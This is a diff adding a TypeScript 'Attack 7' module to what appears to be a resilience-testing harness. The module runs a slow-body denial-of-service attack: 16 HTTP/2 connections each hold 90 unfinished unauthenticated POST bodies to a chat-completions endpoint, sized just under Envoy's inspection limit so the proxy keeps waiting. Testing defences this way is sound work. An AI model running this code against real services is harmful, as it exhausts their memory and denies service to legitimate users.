@@ -1,0 +1,89 @@
+/** Attack 7: request bodies that are never finished, without a credential: 90 on each of 16 connections. */
+
+import type { ClientHttp2Stream } from 'node:http2';
+import { setTimeout as sleep } from 'node:timers/promises';
+import { ATTACKER_ADDRESS, type Attack, count, type Tally } from '../attack.ts';
+import { Connection, type Edge } from '../connection.ts';
+
+const CONNECTIONS = 16;
+const STREAMS_PER_CONNECTION = 90;
+/** A little less than Envoy inspects, so that it waits for the rest. */
+const SENT_BYTES = 1_040_000;
+const PIECE = Buffer.alloc(65_536, 0x20);
+/** The first connections come one after the other, so that the innocents feel memory and not a burst of handshakes. */
+const CONNECT_EVERY_MS = 250;
+const REOPEN_EVERY_MS = 1000;
+/** Streams that Envoy ended are replaced, but no more than so many in all. */
+const MAX_STREAMS = 10_000;
+
+export const unfinishedBodies: Attack = {
+  number: 7,
+  title: 'unfinished request bodies',
+  mayFail: 0.001,
+  async run({ edge }, _ammunition, untilMs) {
+    const tally: Tally = {};
+    const holders: Holder[] = [];
+    while (Date.now() < untilMs) {
+      if (holders.length < CONNECTIONS) holders.push(new Holder(edge, tally));
+      for (const holder of holders) holder.fill();
+      await sleep(holders.length < CONNECTIONS ? CONNECT_EVERY_MS : REOPEN_EVERY_MS);
+    }
+    count(
+      tally,
+      'open at the end',
+      holders.reduce((sum, { open }) => sum + open, 0),
+    );
+    for (const holder of holders) holder.close();
+    return tally;
+  },
+};
+
+/** One connection with its unfinished requests. */
+class Holder {
+  readonly #connection: Connection;
+  readonly #tally: Tally;
+  open = 0;
+
+  constructor(edge: Edge, tally: Tally) {
+    this.#connection = new Connection(edge, ATTACKER_ADDRESS);
+    this.#tally = tally;
+  }
+
+  fill(): void {
+    while (this.open < STREAMS_PER_CONNECTION && (this.#tally['streams'] ?? 0) < MAX_STREAMS) this.#begin();
+  }
+
+  close(): void {
+    this.#connection.close();
+  }
+
+  #begin(): void {
+    this.open += 1;
+    count(this.#tally, 'streams');
+    const headers = { 'content-type': 'application/json' };
+    const stream = this.#connection.open({ method: 'POST', path: '/v1/chat/completions', headers });
+    let status = 'reset';
+    stream.once('response', (headers) => {
+      status = String(headers[':status']);
+    });
+    stream.resume();
+    stream.once('error', () => undefined);
+    stream.once('close', () => {
+      this.open -= 1;
+      count(this.#tally, `ended: ${status}`);
+    });
+    void pour(stream);
+  }
+}
+
+async function pour(stream: ClientHttp2Stream): Promise<void> {
+  for (let sent = 0; sent < SENT_BYTES && !stream.destroyed; sent += PIECE.length) {
+    const goesOn = stream.write(PIECE.subarray(0, Math.min(PIECE.length, SENT_BYTES - sent)));
+    if (!goesOn) {
+      await new Promise<void>((done) => {
+        stream.once('drain', done);
+        stream.once('close', done);
+      });
+    }
+  }
+}
